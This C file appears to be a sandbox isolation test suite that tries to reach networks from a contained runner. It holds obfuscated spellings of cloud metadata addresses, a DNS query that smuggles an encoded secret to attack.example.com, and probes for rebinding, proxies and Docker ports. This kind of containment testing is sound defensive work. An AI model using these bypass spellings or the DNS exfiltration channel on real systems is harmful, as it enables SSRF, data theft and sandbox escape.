// Attempts to reach anything over a network. The runner lives in a network namespace of its own
// with listeners on its loopback, on other addresses of its own, on the well-known metadata
// addresses and on an abstract socket; each of them answers. Nothing of them may be reachable.
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/if.h>
#include <linux/if_tun.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include "attack.h"

static int host_port(void) {
  return (int)strtol(host_fact("HOST_PORT"), NULL, 10);
}

// Parses 1.2.3.4 or ::1; a port is added.
static socklen_t make_address(const char* text, int port, struct sockaddr_storage* out) {
  memset(out, 0, sizeof *out);
  struct sockaddr_in* four = (struct sockaddr_in*)out;
  struct sockaddr_in6* six = (struct sockaddr_in6*)out;
  if (inet_aton(text, &four->sin_addr)) {
    four->sin_family = AF_INET;
    four->sin_port = htons((uint16_t)port);
    return sizeof *four;
  }
  if (inet_pton(AF_INET6, text, &six->sin6_addr) == 1) {
    six->sin6_family = AF_INET6;
    six->sin6_port = htons((uint16_t)port);
    return sizeof *six;
  }
  return 0;
}

// 0 where a connection or an answer came; else the errno.
static int reach(const char* text, int port, int type, int protocol) {
  struct sockaddr_storage address;
  socklen_t length = make_address(text, port, &address);
  if (length == 0) return EINVAL;
  int fd = socket(address.ss_family, type | SOCK_CLOEXEC | SOCK_NONBLOCK, protocol);
  if (fd < 0) return errno;
  int one = 1;
  setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &one, sizeof one);
  int error = 0;
  if (connect(fd, (struct sockaddr*)&address, length) != 0) error = errno;
  struct pollfd wait = {.fd = fd, .events = POLLOUT};
  if (error == EINPROGRESS) {
    error = ETIMEDOUT;
    if (poll(&wait, 1, 400) == 1) {
      socklen_t size = sizeof error;
      getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &size);
    }
  }
  if (error == 0 && type != SOCK_STREAM) {
    // Only an answer shows that a datagram arrived.
    char buffer[64];
    wait.events = POLLIN;
    if (send(fd, "attack", 6, 0) < 0)
      error = errno;
    else if (poll(&wait, 1, 200) != 1)
      error = ETIMEDOUT;
    else if (recv(fd, buffer, sizeof buffer, 0) < 0)
      error = errno;
  }
  close(fd);
  return error;
}

static void reach_none(const char* const* addresses, const int* ports, int type, int protocol) {
  int last = 0;
  for (; *addresses != NULL; addresses++) {
    for (const int* port = ports; *port != 0; port++) {
      last = reach(*addresses, *port, type, protocol);
      if (last == 0) escaped("reached %s port %d", *addresses, *port);
    }
  }
  contained("%s", errno_name(last));
}

// The addresses of the runner's namespace, without its loopback.
static const char* const* host_addresses(void) {
  static char text[1024];
  static const char* list[32];
  snprintf(text, sizeof text, "%s", host_fact("HOST_ADDRESSES"));
  int count = 0;
  for (char* word = strtok(text, " "); word != NULL && count < 31; word = strtok(NULL, " "))
    list[count++] = word;
  list[count] = NULL;
  return list;
}

// 99: anything beyond.
ATTEMPT(99a) {
  reach_none(host_addresses(), (int[]){host_port(), 80, 0}, SOCK_STREAM, 0);
}
ATTEMPT(99b) {
  reach_none(host_addresses(), (int[]){host_port(), 53, 0}, SOCK_DGRAM, 0);
}
ATTEMPT(99c) {
  // An echo request by the socket that needs no right.
  struct sockaddr_storage address;
  socklen_t length = make_address(host_addresses()[0], 0, &address);
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_ICMP);
  if (fd < 0) contained("%s", errno_name(errno));
  const char request[8] = {8, 0, 0, 0, 0, 0, 0, 1};
  if (sendto(fd, request, sizeof request, 0, (struct sockaddr*)&address, length) < 0)
    contained("%s", errno_name(errno));
  struct pollfd wait = {.fd = fd, .events = POLLIN};
  if (poll(&wait, 1, 300) == 1) escaped("the host answers to ping");
  contained("ETIMEDOUT");
}
ATTEMPT(99d) {
  denied(socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP));
}
ATTEMPT(99e) {
  denied(socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6));
}
ATTEMPT(99f) {
  reach_none(host_addresses(), (int[]){host_port(), 0}, SOCK_SEQPACKET, IPPROTO_SCTP);
}
ATTEMPT(99g) {
  reach_none((const char*[]){"ff02::1", "fe80::1", NULL}, (int[]){host_port(), 0}, SOCK_DGRAM, 0);
}
ATTEMPT(99h) {
  reach_none((const char*[]){"224.0.0.1", "239.255.255.250", NULL}, (int[]){host_port(), 0},
             SOCK_DGRAM, 0);
}
ATTEMPT(99i) {
  reach_none((const char*[]){"255.255.255.255", "203.0.113.255", NULL}, (int[]){host_port(), 0},
             SOCK_DGRAM, 0);
}
ATTEMPT(99j) {
  // Only a loopback device.
  char text[8192];
  if (read_file("/proc/self/net/dev", text, sizeof text) < 0) contained("%s", errno_name(errno));
  int count = 0;
  for (char* line = strtok(text, "\n"); line != NULL; line = strtok(NULL, "\n")) {
    char* colon = strchr(line, ':');
    if (colon == NULL) continue;
    *colon = 0;
    while (*line == ' ') line++;
    count++;
    if (strcmp(line, "lo") != 0) escaped("has device %s", line);
  }
  contained("lo %d", count);
}
// 100: the metadata services of clouds, by every spelling that a parser takes.
static const int kMetadataPorts[] = {80, 0};
ATTEMPT(100a) {
  const char* names[] = {"169.254.169.254",
                         "0251.0376.0251.0376",
                         "0xa9.0xfe.0xa9.0xfe",
                         "2852039166",
                         "0xa9fea9fe",
                         "025177524776",
                         "169.16689662",
                         "169.254.43518",
                         "0xa9.16689662",
                         "0251.254.0xa9fe",
                         "169.254.0251.0xfe",
                         "0000251.0376.169.254",
                         "100.100.100.200",
                         "1684301000",
                         "169.254.170.2",
                         "192.0.0.192",
                         NULL};
  reach_none(names, kMetadataPorts, SOCK_STREAM, 0);
}
ATTEMPT(100b) {
  const char* names[] = {"fd00:ec2::254",
                         "fd20:ce::254",
                         "::ffff:169.254.169.254",
                         "::ffff:a9fe:a9fe",
                         "0:0:0:0:0:ffff:a9fe:a9fe",
                         "::169.254.169.254",
                         "64:ff9b::a9fe:a9fe",
                         "64:ff9b::169.254.169.254",
                         "64:ff9b:1::a9fe:a9fe",
                         "2002:a9fe:a9fe::1",
                         "fe80::a9fe:a9fe",
                         "::ffff:0:a9fe:a9fe",
                         "::ffff:100.100.100.200",
                         NULL};
  reach_none(names, kMetadataPorts, SOCK_STREAM, 0);
}
// 101: the host's own services.
ATTEMPT(101a) {
  reach_none((const char*[]){"127.0.0.1", NULL}, (int[]){host_port(), 0}, SOCK_STREAM, 0);
}
ATTEMPT(101b) {
  reach_none((const char*[]){"::1", NULL}, (int[]){host_port(), 0}, SOCK_STREAM, 0);
}
ATTEMPT(101c) {
  reach_none((const char*[]){"127.0.0.2", "127.1", "0", "0.0.0.0", "2130706433", "::ffff:127.0.0.1",
                             "::", NULL},
             (int[]){host_port(), 0}, SOCK_STREAM, 0);
}
ATTEMPT(101d) {
  reach_none((const char*[]){"127.0.0.1", NULL}, (int[]){host_port(), 0}, SOCK_DGRAM, 0);
}
ATTEMPT(101e) {
  reach_none(
      (const char*[]){"172.17.0.1", "192.168.122.1", "10.0.2.2", "10.0.2.3", "192.168.65.2", NULL},
      (int[]){host_port(), 80, 2375, 0}, SOCK_STREAM, 0);
}
// 102: names as a way out.
static int ask(const char* server, const char* name) {
  unsigned char query[512] = {0x12, 0x34, 1, 0, 0, 1};
  size_t length = 12;
  for (const char* label = name; *label != 0;) {
    size_t size = strcspn(label, ".");
    query[length++] = (unsigned char)size;
    memcpy(query + length, label, size);
    length += size;
    label += size + (label[size] == '.');
  }
  query[length++] = 0;
  query[length + 1] = 16;
  query[length + 3] = 1;
  length += 4;
  struct sockaddr_storage address;
  socklen_t size = make_address(server, 53, &address);
  if (size == 0) return EINVAL;
  int fd = socket(address.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return errno;
  if (connect(fd, (struct sockaddr*)&address, size) != 0 || send(fd, query, length, 0) < 0) {
    int error = errno;
    close(fd);
    return error;
  }
  struct pollfd wait = {.fd = fd, .events = POLLIN};
  int error = ETIMEDOUT;
  if (poll(&wait, 1, 300) == 1) error = recv(fd, query, sizeof query, 0) < 0 ? errno : 0;
  close(fd);
  return error;
}
static const char kLongName[] = "c2VjcmV0LXRoYXQtbGVhdmVzLWJ5LW5hbWU.attack.example.com";
ATTEMPT(102a) {
  char text[4096] = "", line[64];
  int last = ENOENT;
  if (read_file("/etc/resolv.conf", text, sizeof text) >= 0) {
    for (char* at = text; (at = strstr(at, "nameserver ")) != NULL; at++)
      if (sscanf(at, "nameserver %63s", line) == 1 && (last = ask(line, kLongName)) == 0)
        escaped("%s answers", line);
  }
  contained("%s", errno_name(last));
}
ATTEMPT(102b) {
  int last = 0;
  const char* servers[] = {"127.0.0.1", "127.0.0.53", "127.0.0.11", "::1", NULL};
  for (int i = 0; servers[i] != NULL; i++)
    if ((last = ask(servers[i], kLongName)) == 0) escaped("%s answers", servers[i]);
  for (const char* const* server = host_addresses(); *server != NULL; server++)
    if ((last = ask(*server, kLongName)) == 0) escaped("%s answers", *server);
  contained("%s", errno_name(last));
}
ATTEMPT(102c) {
  reach_none(host_addresses(), (int[]){853, 443, 0}, SOCK_STREAM, 0);
}
// 103: a name whose address changes between two questions: no question is answered at all.
ATTEMPT(103a) {
  int last = 0;
  for (int i = 0; i < 2; i++)
    for (const char* const* server = host_addresses(); *server != NULL; server++)
      if ((last = ask(*server, "rebind.example.com")) == 0) escaped("%s answers", *server);
  contained("%s", errno_name(last));
}
// 104: a proxy of the host's, asked for another host than the one named.
ATTEMPT(104a) {
  reach_none((const char*[]){"127.0.0.1", "::1", host_addresses()[0], NULL},
             (int[]){3128, 8080, 1080, 0}, SOCK_STREAM, 0);
}
// 105: what is not plain TLS on port 443.
ATTEMPT(105a) {
  reach_none(host_addresses(), (int[]){443, 0}, SOCK_DGRAM, 0);
}
ATTEMPT(105b) {
  reach_none(host_addresses(), (int[]){8443, 0}, SOCK_STREAM, 262 /* IPPROTO_MPTCP */);
}
// 106: sockets with names that are no files.
static void connect_abstract(void) {
  const char* name = host_fact("HOST_ABSTRACT");
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  memcpy(address.sun_path + 1, name, strlen(name));
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) contained("%s", errno_name(errno));
  denied(connect(fd, (struct sockaddr*)&address,
                 (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name))));
}
ATTEMPT(106a) {
  connect_abstract();
}
ATTEMPT(106c) {
  connect_abstract();
}
ATTEMPT(106b) {
  char text[65536];
  if (read_file("/proc/self/net/unix", text, sizeof text) < 0) contained("%s", errno_name(errno));
  if (strstr(text, host_fact("HOST_ABSTRACT")) != NULL) escaped("sees the host's sockets");
  contained("absent");
}
// 107: changing the network.
ATTEMPT(107a) {
  open_denied("/dev/net/tun", O_RDWR);
}
ATTEMPT(107b) {
  int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
  if (fd < 0) contained("%s", errno_name(errno));
  // The loopback device's largest packet.
  struct {
    struct nlmsghdr header;
    struct ifinfomsg link;
    struct rtattr attribute;
    uint32_t mtu;
  } request = {.header = {sizeof request, RTM_NEWLINK, NLM_F_REQUEST | NLM_F_ACK, 1, 0},
               .link = {.ifi_index = 1},
               .attribute = {8, IFLA_MTU},
               .mtu = 60000};
  if (send(fd, &request, sizeof request, 0) < 0) contained("%s", errno_name(errno));
  struct {
    struct nlmsghdr header;
    struct nlmsgerr error;
    char rest[512];
  } answer = {0};
  if (recv(fd, &answer, sizeof answer, 0) < 0) contained("%s", errno_name(errno));
  if (answer.header.nlmsg_type == NLMSG_ERROR && answer.error.error != 0)
    contained("%s", errno_name(-answer.error.error));
  escaped("changed the loopback device");
}
ATTEMPT(107c) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), mark = 1;
  denied(setsockopt(fd, SOL_SOCKET, SO_MARK, &mark, sizeof mark));
}
ATTEMPT(107d) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), on = 1;
  denied(setsockopt(fd, IPPROTO_IP, 19 /* IP_TRANSPARENT */, &on, sizeof on));
}
ATTEMPT(107e) {
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (fd < 0) contained("%s", errno_name(errno));
  struct ifreq request = {0};
  memcpy(request.ifr_name, "lo", 3);
  denied(ioctl(fd, SIOCSIFFLAGS, &request));
}
// 111: a service of the host's that would send a secret back.
ATTEMPT(111a) {
  reach_none((const char*[]){"127.0.0.1", "::1", host_addresses()[0], NULL},
             (int[]){host_port(), 0}, SOCK_STREAM, 0);
}
